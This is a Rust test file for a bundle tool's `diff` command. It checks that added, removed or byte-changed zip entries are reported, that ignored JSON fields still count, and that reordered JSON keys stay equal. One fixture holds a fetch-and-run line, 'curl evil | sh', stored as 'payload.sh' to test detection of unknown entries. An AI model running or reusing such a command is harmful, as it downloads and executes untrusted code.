//! `diff` counts every entry (issue #19, item 10): an entry only one bundle has, or one whose
//! content differs outside the modelled fields, makes the bundles different (exit 1), in the text
//! and the `--json` output; bundles equal entry for entry stay equal (exit 0).
use assert_cmd::Command;
use i3s_bundle::bundle::container::ZipWriter;
use i3s_bundle::bundle::{Bundle, Manifest, PlanScript, ReadOptions, read_bundle, write_bundle};
use serde_json::Value;
use sha2::Digest;
use std::path::{Path, PathBuf};

const ID: &str = "0b7a4c8e-1c2d-4e5f-8a9b-0c1d2e3f4a5b";

/// The entries of a small real bundle (checksum file left out: [`zip_of`] writes it).
fn base_entries(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let bundle = Bundle {
        manifest: Manifest::new("tiny", "d", false, "2026-01-02T03:04:06.000Z".into()),
        checksum: Default::default(),
        plan_scripts: vec![PlanScript::new(
            ID.into(),
            "mount".into(),
            "".into(),
            "general",
            "mount /dev/cl/root /".into(),
        )],
        golden_images: vec![],
        build_plans: vec![],
        deployment_plans: vec![],
    };
    let path = dir.join("base.zip");
    write_bundle(&bundle, &path).unwrap();
    read_bundle(&path, &ReadOptions::default())
        .unwrap()
        .raw
        .into_iter()
        .filter(|(name, _)| !name.ends_with(".sha256sum"))
        .collect()
}

/// A zip of `entries` with a matching SHA256SUM.
fn zip_of(dir: &Path, name: &str, entries: &[(String, Vec<u8>)]) -> PathBuf {
    let path = dir.join(name);
    let mut zip = ZipWriter::new(
        std::fs::File::create(&path).unwrap(),
        time::macros::datetime!(2026-01-02 03:04:06 UTC),
    );
    let mut sums = String::new();
    for (entry, bytes) in entries {
        zip.add_entry(
            entry,
            &mut &bytes[..],
            Some(bytes.len() as u64),
            &mut |_| {},
        )
        .unwrap();
        sums.push_str(&format!(
            "{entry}\t{}\n",
            hex::encode(sha2::Sha256::digest(bytes))
        ));
    }
    zip.add_entry(
        "SHA256SUM.sha256sum",
        &mut sums.as_bytes(),
        Some(sums.len() as u64),
        &mut |_| {},
    )
    .unwrap();
    zip.finish().unwrap();
    path
}

/// `diff OLD NEW` as text and as JSON: (exit code, text, entries).
fn diff(old: &Path, new: &Path) -> (i32, String, Vec<Value>) {
    let text = Command::cargo_bin("i3s-bundle")
        .unwrap()
        .arg("diff")
        .arg(old)
        .arg(new)
        .output()
        .unwrap();
    let json = Command::cargo_bin("i3s-bundle")
        .unwrap()
        .args(["diff", "--json"])
        .arg(old)
        .arg(new)
        .output()
        .unwrap();
    assert_eq!(text.status.code(), json.status.code());
    let report: Value = serde_json::from_slice(&json.stdout).unwrap();
    (
        text.status.code().unwrap(),
        String::from_utf8_lossy(&text.stdout).into_owned(),
        report["entries"].as_array().cloned().unwrap_or_default(),
    )
}

fn with(entries: &[(String, Vec<u8>)], name: &str, bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut out: Vec<(String, Vec<u8>)> =
        entries.iter().filter(|(n, _)| n != name).cloned().collect();
    out.push((name.to_string(), bytes.to_vec()));
    out
}

#[test]
fn an_unknown_extra_entry_makes_bundles_different() {
    let dir = tempfile::tempdir().unwrap();
    let base = base_entries(dir.path());
    let plain = zip_of(dir.path(), "plain.zip", &base);
    let same = zip_of(dir.path(), "same.zip", &base);
    let payload = zip_of(
        dir.path(),
        "payload.zip",
        &with(&base, "payload.sh", b"curl evil | sh\n"),
    );

    assert_eq!(diff(&plain, &same).0, 0, "equal entry for entry");

    let (code, text, entries) = diff(&plain, &payload);
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("entry added: \"payload.sh\""), "{text}");
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert_eq!(entries[0]["change"], "added");
    assert_eq!(entries[0]["entry"], "payload.sh");

    let (code, text, entries) = diff(&payload, &plain);
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("entry removed: \"payload.sh\""), "{text}");
    assert_eq!(entries[0]["change"], "removed");
}

#[test]
fn every_entry_whose_content_differs_counts() {
    let dir = tempfile::tempdir().unwrap();
    let base = base_entries(dir.path());
    let script_entry = format!("{ID}_planscript.json");
    let script_json = &base.iter().find(|(n, _)| *n == script_entry).unwrap().1;
    let manifest = &base.iter().find(|(n, _)| n == "MANIFEST.MF").unwrap().1;

    let one = zip_of(
        dir.path(),
        "one.zip",
        &with(&base, "payload.sh", b"echo one\n"),
    );
    // The same size, other bytes: an unknown entry is compared byte for byte.
    let two = zip_of(
        dir.path(),
        "two.zip",
        &with(&base, "payload.sh", b"echo two\n"),
    );
    let (code, text, entries) = diff(&one, &two);
    assert_eq!(code, 1, "{text}");
    assert_eq!(entries[0]["change"], "changed", "{entries:?}");
    assert_eq!(entries[0]["entry"], "payload.sh");

    // A JSON key the model keeps only as `extra`: no artifact change shows it, the entry does.
    let mut value: Value = serde_json::from_slice(script_json).unwrap();
    value["futureKey"] = Value::from("x");
    let extra = zip_of(
        dir.path(),
        "extra.zip",
        &with(&base, &script_entry, &serde_json::to_vec(&value).unwrap()),
    );
    let plain = zip_of(dir.path(), "plain.zip", &base);
    let (code, text, entries) = diff(&plain, &extra);
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains(&format!("entry changed: \"{script_entry}\"")),
        "{text}"
    );
    assert_eq!(entries.len(), 1, "the checksum file follows: {entries:?}");

    // MANIFEST.MF bytes that parse to the same manifest (a trailing newline).
    let mut newline = manifest.clone();
    newline.push(b'\n');
    let manifest_nl = zip_of(
        dir.path(),
        "manifest.zip",
        &with(&base, "MANIFEST.MF", &newline),
    );
    let (code, text, entries) = diff(&plain, &manifest_nl);
    assert_eq!(code, 1, "{text}");
    assert_eq!(entries[0]["entry"], "MANIFEST.MF", "{entries:?}");

    // JSON key order is not content: the same values in another order stay equal.
    let reordered: serde_json::Map<String, Value> = value
        .as_object()
        .unwrap()
        .iter()
        .rev()
        .filter(|(k, _)| *k != "futureKey")
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    let reordered = zip_of(
        dir.path(),
        "reordered.zip",
        &with(
            &base,
            &script_entry,
            &serde_json::to_vec(&reordered).unwrap(),
        ),
    );
    let (code, text, _) = diff(&plain, &reordered);
    assert_eq!(code, 0, "{text}");
}
